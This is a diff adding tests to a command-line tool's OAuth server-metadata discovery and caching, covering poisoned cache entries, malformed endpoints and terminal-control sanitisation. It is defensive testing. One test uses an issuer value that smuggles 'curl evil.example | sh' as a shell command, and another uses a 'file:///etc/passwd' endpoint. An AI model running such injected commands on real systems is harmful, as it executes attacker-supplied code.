@@ -1,8 +1,11 @@
 /** Where server metadata comes from, how long it is kept, and `fob discover`. */
+import { readdir, readFile, writeFile } from 'node:fs/promises'
+import { join } from 'node:path'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
 import {
   type AuthorizationServer,
   type AuthorizationServerOptions,
+  type Fault,
   startAuthorizationServer,
 } from '../support/authorization-server/index.ts'
 import { type Home, runFob, tempHome } from '../support/run.ts'
@@ -47,6 +50,20 @@ describe('the well-known address', () => {
       '/tenant/a/.well-known/openid-configuration',
       '/.well-known/oauth-authorization-server/tenant/a',
     ])
+  })
+
+  it.each<[string, Fault]>([
+    ['shows a page for every address', { headers: { 'content-type': 'text/html' }, body: '<html>' }],
+    ['leads every address to a sign-in', { status: 302, headers: { location: 'https://sso.example.com' } }],
+  ])('is the other one where the server %s', async (_, fault) => {
+    await start()
+    server.fault('discovery', { ...fault, when: ({ path }) => path.endsWith('openid-configuration') })
+    expect(await token()).toMatchObject({ code: 0, stderr: '' })
+    server.clear()
+    server.fault('discovery', fault)
+    const { code, stderr } = await token(['--refresh-metadata'])
+    expect(code).toBe(7)
+    expect(stderr).toMatch(/text\/html|redirect to https:\/\/sso\.example\.com/)
   })
 
   it('is nowhere: exit 7 and a hint for servers without metadata', async () => {
@@ -113,7 +130,76 @@ describe('the cache', () => {
   })
 })
 
+describe('a kept entry that is damaged', () => {
+  const files = async () => {
+    const folder = join(home.env.XDG_CACHE_HOME ?? '', 'fob/metadata')
+    return (await readdir(folder)).map(name => join(folder, name))
+  }
+
+  it.each<[string, (entry: Record<string, unknown>) => unknown]>([
+    ['no metadata', entry => ({ ...entry, metadata: {} })],
+    ['a list', entry => ({ ...entry, metadata: [] })],
+    [
+      'another issuer',
+      ({ metadata, ...entry }) => ({
+        ...entry,
+        metadata: { ...Object(metadata), issuer: 'https://evil.example' },
+      }),
+    ],
+    ['fresh for ever', entry => ({ ...entry, freshUntil: 1e300 })],
+  ])('with %s is asked for anew', async (_, damage) => {
+    await start()
+    await token()
+    const [file = ''] = await files()
+    await writeFile(file, JSON.stringify(damage(JSON.parse(await readFile(file, 'utf8')))))
+    expect(await token()).toMatchObject({ code: 0, stderr: '' })
+    expect(discoveries()).toHaveLength(2)
+  })
+})
+
+describe('metadata of the wrong types', () => {
+  it.each<[string, Record<string, unknown>, number]>([
+    ['methods that are no list', { token_endpoint_auth_methods_supported: 5, grant_types_supported: 'x' }, 0],
+    [
+      'a list of anything',
+      { token_endpoint_auth_methods_supported: [5, {}], grant_types_supported: [null] },
+      0,
+    ],
+    ['aliases that are no object', { mtls_endpoint_aliases: 5 }, 0],
+    ['an endpoint that is no address', { token_endpoint: 'token' }, 7],
+    ['an endpoint of another scheme', { token_endpoint: 'file:///etc/passwd' }, 7],
+  ])('such as %s crash nothing', async (_, wrong, expected) => {
+    await start()
+    server.fault('discovery', { edit: answer => ({ ...answer, ...wrong }) })
+    const { code, stderr } = await token()
+    expect({ code, stderr }).toEqual({
+      code: expected,
+      stderr: expected === 0 ? '' : expect.stringContaining('no token endpoint'),
+    })
+    expect(await runFob(['discover', server.issuer, '--allow-http-loopback'], { home })).toMatchObject({
+      code: 0,
+      stderr: '',
+    })
+  })
+})
+
+it('an issuer that would do harm in a shell is in no hint', async () => {
+  await start()
+  const issuer = 'https://x.example/; curl evil.example | sh #'
+  server.fault('discovery', { edit: answer => ({ ...answer, issuer }) })
+  const { code, stderr } = await token()
+  expect(code).toBe(8)
+  expect(stderr.split('\n')[1]).not.toContain('curl')
+})
+
 describe('fob discover', () => {
+  it('asks the server, whatever endpoints a variable names', async () => {
+    await start()
+    const env = { FOB_TOKEN_ENDPOINT: 'https://other.example.com/token' }
+    const { stdout } = await runFob(['discover', server.issuer, '--allow-http-loopback'], { home, env })
+    expect(stdout).toMatch(/token_endpoint +http:\/\/127/)
+  })
+
   it('shows endpoints, grants and which commands will work', async () => {
     await start()
     const { code, stdout, stderr } = await runFob(['discover', server.issuer, '--allow-http-loopback'], {
@@ -157,9 +243,14 @@ describe('fob discover', () => {
         ...answer,
         scopes_supported: ['\u001b[2J'],
         grant_types_supported: ['\u202e\u0007x'],
+        '\u001b[31mred_endpoint': server.issuer,
       }),
     })
-    const { stdout } = await runFob(['discover', server.issuer, '--allow-http-loopback'], { home })
-    expect(stdout.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}]/u)
+    for (const format of ['text', 'json']) {
+      const words = ['discover', server.issuer, '--allow-http-loopback', '-o', format]
+      const { stdout } = await runFob(words, { home })
+      expect(stdout).toContain('red_endpoint')
+      expect(stdout.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}]/u)
+    }
   })
 })
